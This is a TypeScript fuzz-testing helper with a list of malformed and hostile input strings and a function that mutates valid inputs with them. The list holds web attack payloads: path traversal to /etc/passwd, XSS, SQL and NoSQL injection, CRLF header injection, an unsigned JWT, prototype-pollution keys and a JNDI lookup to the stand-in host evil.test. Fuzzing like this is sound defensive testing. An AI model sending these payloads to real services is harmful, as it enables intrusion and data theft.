import type { Random } from '#bench/fuzz/random';

/** What breaks parsers, encoders, databases, key names, templates and people's patience. */
const VALUES: readonly [string, ...string[]] = [
  '',
  '%',
  '%00',
  '%zz',
  '%c0%ae%c0%ae',
  '%ff%fe',
  '%F0%9F%92%A9',
  '%ED%A0%80',
  '..%2f..%2fetc%2fpasswd',
  '../../../etc/passwd',
  '//evil.test',
  '/%5cevil.test',
  'https://evil.test/',
  'javascript:alert(1)',
  '%0d%0aSet-Cookie:%20a=b',
  "'%20or%20'1'='1",
  '%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  '%7B%7Bconstructor%7D%7D',
  '$%7Bjndi:ldap://evil.test/a%7D',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '99999999999999999999999999',
  '2026-13-45T99:99:99Z',
  '*',
  '?',
  '[object Object]',
  'a%5B%5D=1',
  '%7B%22$ne%22:null%7D',
  'eyJhbGciOiJub25lIn0.e30.',
  'eyJhbGciOiJIUzI1NiJ9.bnVsbA.AAAA',
  '....',
  '=====',
  'A'.repeat(127),
  'A'.repeat(4_096),
  'A'.repeat(15_000),
  '%F0'.repeat(300),
];

export const nonsense = (random: Random): string => random.pick(VALUES);

/** Of something valid, something nearly valid. */
export function bend(random: Random, valid: string): string {
  const at = random.below(valid.length + 1);
  switch (random.below(8)) {
    case 0:
      return nonsense(random);
    case 1:
      return valid.slice(0, at);
    case 2:
      return valid.slice(0, at) + nonsense(random) + valid.slice(at);
    case 3:
      return valid.slice(0, at) + String.fromCharCode(33 + random.below(94)) + valid.slice(at + 1);
    case 4:
      return valid + valid;
    case 5:
      return valid.toUpperCase();
    case 6:
      return valid.slice(0, at) + valid.slice(at + 1);
    default:
      return valid;
  }
}
